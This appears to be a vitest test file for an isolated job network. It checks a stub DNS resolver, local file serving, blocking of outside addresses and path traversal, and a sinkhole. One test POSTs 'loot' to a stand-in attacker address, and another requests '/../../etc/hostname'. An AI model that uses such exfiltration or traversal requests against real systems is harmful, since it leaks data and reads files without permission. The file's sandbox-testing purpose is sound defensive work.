import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { describeWith } from '../../tools/requirements.ts'
import { command } from './command.ts'
import { answerDns } from './dns.ts'
import { type Network, openNetwork } from './network.ts'
import { isAbandoned, ownerTag } from './owner.ts'
import { tarballName } from './packages.ts'
import { ATTACKER_ADDRESS, RESOLVER_ADDRESS } from './plan.ts'
import { readTarEntry } from './tar.ts'

describeWith(['root', 'ip'], 'the network of a job', () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'gatehouse-network-'))
  const record = path.join(folder, 'caught.jsonl')
  let network: Network

  beforeAll(async () => {
    network = await openNetwork(folder, [
      { name: 'files.example.test', address: '198.51.100.40', port: 80, service: { kind: 'files', folder } },
      { name: 'six.example.test', address: '2001:db8:9::9', port: 80, service: { kind: 'files', folder } },
      { address: ATTACKER_ADDRESS, port: 8000, service: { kind: 'sinkhole', record } },
    ])
    writeFileSync(path.join(folder, 'hello'), 'hello from a file')
  })
  afterAll(async () => {
    await network?.close()
    rmSync(folder, { recursive: true, force: true })
  })

  const inside = (script: string) => {
    return command('nsenter', [...network.enter.slice(1), process.execPath, '--input-type=module', '-e', script])
  }

  test('answers names over IPv4 and IPv6 and serves files by them', async () => {
    const fetched = await inside(
      `for (const host of ['files', 'six']) console.log(await (await fetch('http://' + host + '.example.test/hello')).text())`,
    )
    expect(fetched).toBe('hello from a file\nhello from a file\n')
  })

  test('denies every other name', async () => {
    const code = await inside(
      `import('node:dns/promises').then((dns) => dns.resolve4('example.com')).catch((error) => console.log(error.code))`,
    )
    expect(code).toBe('ENOTFOUND\n')
  })

  test('answers over TCP too', async () => {
    const answer = await inside(`
      import { connect } from 'node:net'
      const question = Buffer.from('0001010000010000000000000566696c6573076578616d706c65047465737400' + '00010001', 'hex')
      const length = Buffer.from([0, question.length])
      const socket = connect(53, '${RESOLVER_ADDRESS}', () => socket.write(Buffer.concat([length, question, length, question])))
      let got = Buffer.alloc(0)
      socket.on('data', (chunk) => { got = Buffer.concat([got, chunk]); if (got.length >= 2 * (2 + got.readUInt16BE(0))) { console.log(got.subarray(-4).join('.')); socket.destroy() } })
    `)
    expect(answer).toBe('198.51.100.40\n')
  })

  test('keeps what a sinkhole was sent', async () => {
    await inside(`await fetch('http://${ATTACKER_ADDRESS}:8000/in', { method: 'POST', body: 'loot' })`)
    expect(JSON.parse(readFileSync(record, 'utf8'))).toMatchObject({ method: 'POST', path: '/in', bytes: 4, body: 'loot' })
  })

  test('has no way out: an address that is not part of it is unreachable, and so is the machine', async () => {
    const codes = await inside(`
      for (const host of ['198.51.100.99', '127.0.0.1']) await fetch('http://' + host + ':81/').catch((error) => console.log(error.cause.code))
    `)
    expect(codes).toBe('ENETUNREACH\nECONNREFUSED\n')
  })

  test('does not serve files from outside its folder', async () => {
    const status = await inside(`
      import { request } from 'node:http'
      request({ host: 'files.example.test', path: '/../../etc/hostname' }, (response) => { console.log(response.statusCode); response.destroy() }).end()
    `)
    expect(status).toBe('404\n')
  })

  test("leaves the machine's own resolver configuration alone", () => {
    expect(readFileSync('/etc/resolv.conf', 'utf8')).not.toContain(RESOLVER_ADDRESS)
  })
})

describe('the name server', () => {
  const zone = new Map([['a.test', ['192.0.2.7']]])
  const query = Buffer.from('abcd01000001000000000000' + '0161047465737400' + '00010001', 'hex')

  test('echoes id and question', () => {
    const answer = answerDns(query, zone)
    expect(answer?.subarray(0, 2).toString('hex')).toBe('abcd')
    expect(answer?.subarray(-4)).toEqual(Buffer.from([192, 0, 2, 7]))
  })

  test('says that a name exists but has no such record', () => {
    const six = Buffer.from(query)
    six.writeUInt16BE(28, six.length - 4)
    const answer = answerDns(six, zone)
    expect([answer?.readUInt16BE(6), (answer?.[3] ?? 0) & 15]).toEqual([0, 0])
  })

  test('drops what is cut short, at every length', () => {
    for (let length = 0; length < query.length; length += 1) expect(answerDns(query.subarray(0, length), zone)).toBeNull()
  })
})

describe('helpers', () => {
  test('a member of a tar archive is found behind others', () => {
    const archive = gzipSync(Buffer.concat([member('package/a', 'first'), member('package/package.json', '{}'), Buffer.alloc(1024)]))
    expect(readTarEntry(archive, 'package/package.json')?.toString()).toBe('{}')
    expect(readTarEntry(archive, 'package/missing')).toBeNull()
  })

  test('file names of tarballs are those of npm pack', () => {
    expect(tarballName('@scope/name@1.0.0')).toBe('scope-name-1.0.0.tgz')
    expect(tarballName('ms@2.1.3')).toBe('ms-2.1.3.tgz')
    expect(() => tarballName('ms')).toThrow('not name@version')
  })

  test('a tag is abandoned when its process is gone or another one has its pid', () => {
    const [pid] = ownerTag().split('-')
    expect(isAbandoned(ownerTag())).toBe(false)
    expect(isAbandoned(`${pid}-1`)).toBe(true)
    expect(isAbandoned('mine')).toBe(false)
  })
})

function member(name: string, text: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name)
  header.write(text.length.toString(8).padStart(11, '0'), 124)
  return Buffer.concat([header, Buffer.from(text.padEnd(512, '\0'))])
}
